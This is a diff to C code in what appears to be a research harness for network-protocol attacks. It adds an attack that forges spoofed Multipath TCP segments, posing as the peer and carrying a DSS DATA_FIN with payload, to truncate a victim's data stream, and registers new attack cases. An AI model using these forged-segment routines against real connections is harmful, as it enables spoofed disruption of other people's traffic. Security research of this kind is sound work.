@@ -16,27 +16,66 @@ static void try_wrong(struct plait_attack *a, const struct plait_numbers *number
     send_data_fin(a, numbers, plait_own_draw(a, "dsn", numbers->seq));
 }
 
+static void try_wrong_dsn(struct plait_attack *a, uint64_t dsn, void *numbers)
+{
+    send_data_fin(a, numbers, dsn);
+}
+
 static void run(struct plait_attack *a)
 {
     plait_take_position(a);
     struct plait_numbers numbers =
         plait_get_numbers(a, plait_subflow_here(a), PLAIT_ACCEPT_IN_WINDOW, try_wrong, NULL);
-    uint64_t dsn = plait_get_dsn(a);
+    uint64_t dsn = plait_get_dsn(a, try_wrong_dsn, &numbers);
     plait_step(a, "ends the peer's stream with one empty segment");
     send_data_fin(a, &numbers, dsn);
+}
+
+/* Numbers that aged a little still reach what the victim expects next: with octets in front of the
+ * end, as a FIN of TCP may have them. */
+static void run_with_data(struct plait_attack *a)
+{
+    plait_take_position(a);
+    struct plait_numbers numbers;
+    struct plait_dss mapping;
+    if (!plait_overheard_numbers(a, 0, &numbers) ||
+        !plait_overheard_mapping(a, &numbers, &mapping)) {
+        plait_refused(a, "nothing of this connection was overheard");
+        return;
+    }
+    plait_step(a, "writes as the peer and ends its stream");
+    struct plait_segment fin = plait_forged(&numbers, PLAIT_ACK | PLAIT_PSH);
+    mapping.data_fin = true;
+    mapping.data_length = PLAIT_FULL_OCTETS + 1;
+    plait_add_option(&fin, PLAIT_DSS)->dss = mapping;
+    fin.payload = plait_full_payload();
+    fin.payload_octets = PLAIT_FULL_OCTETS;
+    plait_send(a, &fin);
 }
 
 #define CASE(who, where, load)                                                                     \
     {                                                                                              \
         .form = "-", .position = where, .spoofing = true, .victim = who, .workload = load,         \
-        .paths = 2, .goals = PLAIT_GOAL_BIT(TRUNCATE), .script = run, .witnesses = {               \
+        .paths = 2, .goals = PLAIT_GOAL_BIT(TRUNCATE), .script = run,                              \
+        .witnesses = {PLAIT_GRANT_NUMBERS}, .buys_dsn = true                                       \
+    }
+
+#define WITH_DATA(load)                                                                            \
+    {                                                                                              \
+        .form = "with-data", .position = "PE-H", .spoofing = true, .victim = PLAIT_SERVER,         \
+        .workload = load, .paths = 2, .goals = PLAIT_GOAL_BIT(TRUNCATE), .script = run_with_data,  \
+        .witnesses = {                                                                             \
             PLAIT_GRANT_NUMBERS                                                                    \
         }                                                                                          \
     }
 
 static const struct plait_case cases[] = {
-    CASE(PLAIT_SERVER, "ON1-E", PLAIT_BULK), CASE(PLAIT_SERVER, "PE-H", PLAIT_IDLE),
-    CASE(PLAIT_SERVER, "OFF", PLAIT_IDLE),   CASE(PLAIT_CLIENT, "ON1-E", PLAIT_BULK),
+    WITH_DATA(PLAIT_TRICKLE),
+    WITH_DATA(PLAIT_BULK),
+    CASE(PLAIT_SERVER, "ON1-E", PLAIT_BULK),
+    CASE(PLAIT_SERVER, "PE-H", PLAIT_IDLE),
+    CASE(PLAIT_SERVER, "OFF", PLAIT_IDLE),
+    CASE(PLAIT_CLIENT, "ON1-E", PLAIT_BULK),
     CASE(PLAIT_SERVER, "ON2-E", PLAIT_BULK),
 };
 
